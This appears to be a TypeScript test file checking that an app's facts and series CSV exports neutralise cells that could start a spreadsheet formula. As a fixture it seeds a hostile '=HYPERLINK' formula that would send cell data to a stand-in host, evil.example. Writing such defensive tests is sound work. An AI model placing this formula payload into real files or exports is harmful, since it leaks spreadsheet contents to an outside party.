import { parseCsv } from '@chiso/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commitExternalChange } from '../services/commit';
import { seededApp, type TestApp } from '../testing/harness';

let t: TestApp;
const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")';
beforeAll(async () => {
  t = await seededApp();
  const now = new Date().toISOString();
  const source = await t.db.db
    .insertInto('sources')
    .values({ kind: 'article', title: hostile, publisher: '@outlet', url: 'https://example.com/a', published_on: '2024-01', region: 'da-nang', report_year: null, format: null, sha256: null, text: null, created_at: now })
    .returning('id')
    .executeTakeFirstOrThrow();
  await t.db.db
    .insertInto('facts')
    .values({
      indicator: 'ict_revenue', region: 'da-nang', year: 2011, value: 7000, value_min: null, value_max: null, qualifier: 'actual', approx: 'exact',
      change_pct: -3, change_vs_year: null, plan_pct: null, source_id: source.id, span_start: null, span_end: null,
      quote: '- Năm 2011, tổng doanh thu đạt 7.000 tỷ đồng', quote_start: null, method: 'curated', rule: null, confidence: 1,
      status: 'accepted', note: null, public_note_vi: null, public_note_en: null, seed_key: null, created_at: now, updated_at: now,
    })
    .execute();
  await commitExternalChange(t.db.db);
});
afterAll(async () => t.close());

/** Every field of every row: none may start a formula unless it is a number. */
function formulaCells(csv: string): string[] {
  const { records } = parseCsv(csv.replace(/^\uFEFF/, ''));
  return records.flatMap((r) => Object.values(r.values)).filter((v) => /^[=+\-@\t\r]/.test(v) && !/^-?\d+(\.\d+)?$/.test(v));
}

describe('CSV exports neutralise cells that could start a formula', () => {
  it('facts.csv: titles, publishers and quotes', async () => {
    const res = await t.get('/api/v1/facts.csv?indicator=ict_revenue&year=2011');
    const csv = await res.text();
    expect(res.status).toBe(200);
    const row = parseCsv(csv.replace(/^\uFEFF/, '')).records[0]!.values;
    expect(row.source_title).toBe(`'${hostile}`);
    expect(row.source_publisher).toBe("'@outlet");
    expect(row.quote).toBe("'- Năm 2011, tổng doanh thu đạt 7.000 tỷ đồng");
    expect(row.change_pct).toBe('-3');
    expect(formulaCells(csv)).toEqual([]);
  });

  it('series.csv', async () => {
    const csv = await (await t.get('/api/v1/indicators/ict_revenue/series.csv')).text();
    expect(csv).toContain('ict_revenue,da-nang,2011,7000');
    expect(formulaCells(csv)).toEqual([]);
  });
});
